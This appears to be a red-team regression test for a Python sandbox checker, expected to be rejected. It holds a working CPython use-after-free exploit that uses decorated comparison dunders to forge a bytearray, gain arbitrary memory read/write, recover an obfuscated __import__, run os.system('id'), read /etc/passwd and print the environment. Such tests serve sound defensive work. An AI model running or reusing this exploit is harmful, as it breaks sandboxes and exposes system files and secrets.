# expect: reject memory
# line: 39
# why: round 92 (red team): @clearing over def __lt__ judged the def's pure body while the class bound __lt__ to what clearing returned
# A comparison dunder written as a def under a decorator of the program's: the
# checker judges the def's body (pure), but the class binds __lt__/__gt__ to
# whatever the decorator returns, which nothing judges.
vl = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(1 << 62)
        + q(0) + q(0) + q(1))[:73]


def clearing(f):
    def run(self, o):
        vl.clear()
        return NotImplemented
    return run


def refilling(f):
    def run(self, o):
        KEEP.append(bytearray(FAKE))
        return o
    return run


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")

    def __eq__(self, o):
        return False

    @clearing
    def __lt__(self, o):
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    @refilling
    def __gt__(self, o):
        return o


vl.append(V())
w = W()
mem = vl < [w]


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def wr(addr, v):
    mem[addr:addr + 8] = q(v)


mod = rd(id(print) + 24)
bdict = rd(mod + 16)
holder = [None]
items = rd(id(holder) + 24)
wr(bdict, rd(bdict) + 1)
wr(items, bdict)
table = holder[0]
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
